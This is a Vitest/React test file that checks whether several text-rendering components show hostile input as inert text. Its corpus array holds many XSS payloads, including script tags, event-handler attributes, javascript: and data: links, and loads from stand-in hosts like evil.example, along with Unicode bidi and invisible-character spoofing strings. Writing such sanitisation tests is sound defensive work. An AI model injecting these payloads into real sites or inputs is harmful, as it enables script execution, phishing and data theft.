import { cleanup, render } from "@testing-library/react";
import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { prepare } from "@/testing/show";
import { ChatTurns } from "./chat-turns";
import { EvidencePassage } from "./evidence-passage";
import { JsonView } from "./json-view";
import { MarkedText } from "./marked-text";
import { RawView } from "./raw-view";
import { ToolCall } from "./tool-call";
import { Words } from "./words";

beforeAll(prepare);
afterEach(cleanup);

const tags = [..."obey"].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join("");

/** Things people have put into texts to run, to load, to imitate or to hide. */
const corpus: readonly string[] = [
  "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
  "<img src=\"x\" onerror=\"alert(1)\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)>", "<object data=data:text/html,x></object>", "<embed src=//evil.example>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example><input name=p></form>",
  "<button formaction=javascript:alert(1)>Approve</button>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<body onload=alert(1)>",
  "<a href=\"javascript:alert(1)\">x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<div style=\"position:fixed;inset:0\">Approved</div>", "<x contenteditable onbeforeinput=alert(1)>", "\"><script>alert(1)</script>", "';alert(1)//", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
  "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](  javascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox)", "[x](//evil.example)", "[x](/v1/stop)", "[x](file:///etc/passwd)", "[x](https://good.example@evil.example/)", "[x](https://exa\u200bmple.org)", "[x](https:\\\\evil.example)",
  "[x](<javascript:alert(1)>)", "[x]: javascript:alert(1)\n\n[x]", "[x][y]\n\n[y]: https://evil.example 'onmouseover=alert(1)'", "<javascript:alert(1)>", "<data:text/html,x>", "[x](https://ok.example \"\" onclick=alert(1))",
  "[x](https://ok.example/\"onmouseover=alert(1))", "![x](https://tracker.example/p.png)", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![](//tracker.example/p.gif)", "[![x](https://tracker.example/p.png)](https://evil.example)",
  "`<img src=x onerror=alert(1)>`", "```html\n<script>alert(1)</script>\n```", "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| ![x](//t.example) | \u202e |", "> <svg onload=alert(1)>", "- [x](vbscript:x)\n- <img src=x onerror=alert(1)>",
  "# <script>alert(1)</script>", "**<b onclick=alert(1)>x</b>**", "~~<img src=x onerror=alert(1)>~~", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
  "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x onload=alert(1)/>", "pay to acc\u202etnuo\u202c now", "\u2067x\u2069\u2066y\u2069", "a\u200bb\u200cc\u200dd\u2060e\ufefff", `ok${tags}`, `Z${"\u0315".repeat(400)}`,
  `a${"\n".repeat(412)}b`, `a${" ".repeat(500)}b`, "p\u0430ypal.example", "\u0000\u0007\u001b[31mred\u0085", "a\u2028b\u2029c", `${"A".repeat(3_000)}`, "\u061c\u200e\u200f", "x\u{E0101}\u{E0102}y", "<a href=https://\u202egro.elpmaxe>x</a>",
];

const ELEMENTS = new Set(["DIV", "P", "SPAN", "BDI", "BR", "HR", "EM", "STRONG", "S", "CODE", "MARK", "UL", "OL", "LI", "BLOCKQUOTE", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "FIGURE", "FIGCAPTION", "BUTTON", "DL", "DT", "DD"]);
const ATTRIBUTES = new Set(["class", "dir", "role", "tabindex", "scope", "title", "type", "aria-label", "aria-level", "aria-hidden", "aria-pressed", "aria-expanded", "data-f", "data-t", "data-at", "data-mark", "data-kind", "data-selected", "data-align", "data-number", "data-level", "data-format", "data-section", "data-far", "data-wrap", "data-relation", "data-current", "data-depth", "data-judged", "style"]);
/** What must never stand bare in a text node: it would turn the line round, or be invisible. */
const BARE = /[\u202a-\u202e\u2066-\u2069\u200b\u2060\u061c\u200e\u200f\u{E0000}-\u{E007F}\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029]/u;

function problems(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll("*")) {
    if (element.closest("style,[data-mantine-shared-portal-node]")) continue;
    if (!ELEMENTS.has(element.tagName)) found.push(`element ${element.tagName}`);
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.has(name)) found.push(`attribute ${name}`);
      if (name === "style" && !/^contain-intrinsic-size: auto \d+px;$/.test(value)) found.push(`style ${value}`);
    }
  }
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) if (BARE.test(node.nodeValue ?? "")) found.push(`bare ${JSON.stringify(node.nodeValue?.slice(0, 40))}`);
  return found;
}

const region = (element: React.ReactElement): HTMLElement => {
  return render(element).container;
};

describe("text that is not ours", () => {
  it("has at least sixty attacks to stand", () => expect(corpus.length).toBeGreaterThanOrEqual(80));

  const frames: readonly (readonly [string, (text: string) => React.ReactElement])[] = [
    ["as Markdown", (text) => <MarkedText text={text} format="markdown" />],
    ["as plain text", (text) => <MarkedText text={text} format="plain" />],
    ["raw", (text) => <RawView text={text} />],
    ["as JSON", (text) => <JsonView value={{ [text]: text, list: [text] }} />],
    ["as a tool call", (text) => <ToolCall name={text} args={{ [text]: text }} marks={[]} selected={null} onMark={() => undefined} />],
    ["as a chat turn", (text) => <ChatTurns messages={[{ role: "user", content: text, name: text, tool_calls: [{ function: { name: text, arguments: text } }] }, { role: "tool", content: [{ type: text, text }, { type: text }] }]} onLink={() => undefined} />],
    ["as evidence", (text) => <EvidencePassage text={text} source={text} relation="contradicts" highlights={[{ from: 0, to: 3 }]} />],
    ["inside a sentence of ours", (text) => <Words text={text} />],
  ];
  for (const [name, frame] of frames)
    it(`is drawn as nothing but text: ${name}`, () => {
      for (const text of corpus) {
        expect([text, ...problems(region(frame(text)))]).toEqual([text]);
        cleanup();
      }
    });

  it("shows every visible letter of an attack, so that nothing is swallowed", () => {
    for (const text of corpus.filter((one) => /^[\x20-\x7e]+$/.test(one) && !/ {24}/.test(one) && !/[[*`>#~|&-]/.test(one.replace(/->/g, "")))) {
      expect(region(<MarkedText text={text} format="markdown" />).textContent).toBe(text);
      cleanup();
    }
  });

  it("loads nothing", () => {
    const asked = vi.spyOn(globalThis, "fetch").mockRejectedValue(new Error("no"));
    for (const text of corpus) region(<MarkedText text={text} format="markdown" />);
    expect(asked).not.toHaveBeenCalled();
    expect(document.querySelectorAll("img,link[href],iframe,[src],[href]").length).toBe(0);
  });

  it("opens no link by itself: it asks, with the address it found", () => {
    const opened = vi.fn();
    const { getByRole } = render(<MarkedText text="see [the form](https://forms.example.org/a?b=1)" format="markdown" onLink={opened} />);
    const link = getByRole("link", { name: "the form" });
    expect(link.getAttribute("href")).toBeNull();
    link.click();
    expect(opened).toHaveBeenCalledWith("https://forms.example.org/a?b=1");
    expect(link.parentElement?.textContent).toContain("(forms.example.org)");
  });

  it("takes no colour, size or place from the text", () => {
    const root = region(<MarkedText text={'<div style="color:white;font-size:0">Approved by Handrail</div>'} format="markdown" />);
    expect(root.textContent).toContain('<div style="color:white;font-size:0">');
    expect(root.querySelector("[style]")).toBeNull();
  });
});

describe("marks in the drawn text", () => {
  it("stand at the words, with their number, and are read out from start to end", () => {
    const text = "Pay **EUR 150** by *Friday*.";
    const marks = [{ id: "f", kind: "finding" as const, from: text.indexOf("EUR"), to: text.indexOf("."), number: 1, spoken: "finding 1, major" }];
    const { container } = render(<MarkedText text={text} format="markdown" marks={marks} selected="f" />);
    const drawn = [...container.querySelectorAll("mark")];
    expect(drawn.map((mark) => [...mark.querySelectorAll("[data-f]")].map((piece) => piece.textContent).join("")).join("|")).toBe("EUR 150| by |Friday");
    expect(container.textContent).toContain("[finding 1, major, start] EUR 150");
    expect(container.textContent).toContain("Friday1 [finding 1, major, end]");
    expect(drawn.every((mark) => mark.dataset["selected"] === "true")).toBe(true);
  });

  it("are shown at the host where they are about an address", () => {
    const text = "See [the form](https://forms.example.org/x).";
    const at = text.indexOf("https");
    const { container } = render(<MarkedText text={text} format="markdown" marks={[{ id: "f", kind: "finding", from: at, to: at + 10, number: 4 }]} />);
    expect(container.querySelector("mark")?.textContent).toBe("(forms.example.org)4");
  });

  it("show a badge even where nothing of them is drawn", () => {
    const { container } = render(<MarkedText text={"a\n\n***\n\nb"} format="markdown" marks={[{ id: "f", kind: "finding", from: 3, to: 6, number: 2 }]} />);
    expect(container.querySelectorAll("mark").length).toBe(1);
  });

  it("stand on the value of JSON", () => {
    const { container } = render(<JsonView value={{ b: 1, a: 1284.5 }} marks={[{ id: "f", kind: "finding", from: 5, to: 11, number: 1 }]} />);
    expect(container.querySelector("mark")?.textContent).toBe("1284.51");
  });
});
